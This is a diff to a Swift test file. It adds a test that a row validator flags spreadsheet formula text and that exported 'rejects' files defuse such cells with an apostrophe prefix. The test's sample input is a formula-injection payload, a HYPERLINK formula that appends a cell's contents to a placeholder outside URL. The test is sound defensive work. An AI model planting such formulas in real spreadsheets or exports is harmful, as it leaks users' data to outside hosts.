@@ -46,6 +46,21 @@ struct PARSTableWriterTests {
         #expect(lines[2] == "")
     }
 
+    @Test("The rejects file, which people open to fix rows, defuses a value a spreadsheet would run as a formula")
+    func rejectsDefuseFormulas() {
+        let bad = row("=HYPERLINK(\"https://x.example/?\"&B2)")
+        let reasons = PARSRowValidator(mapping: mapping).rejections(of: bad)
+        #expect(reasons.map(\.code).contains(.formulaText))
+        for format in PARSTableFormat.allCases {
+            let text = String(
+                decoding: PARSTableWriter(mapping: mapping, format: format).rejects(
+                    [PARSExport.RejectedRow(row: bad, reasons: reasons)]),
+                as: UTF8.self)
+            let second = text.split(whereSeparator: \.isNewline)[1]
+            #expect(second.hasPrefix(format == .tsv ? "'=HYPERLINK(" : "\"'=HYPERLINK("), "\(format): \(second)")
+        }
+    }
+
     @Test("A CSV rejects file keeps a line break inside a quoted field")
     func rejectsCSV() {
         let bad = row("O\nNeill")
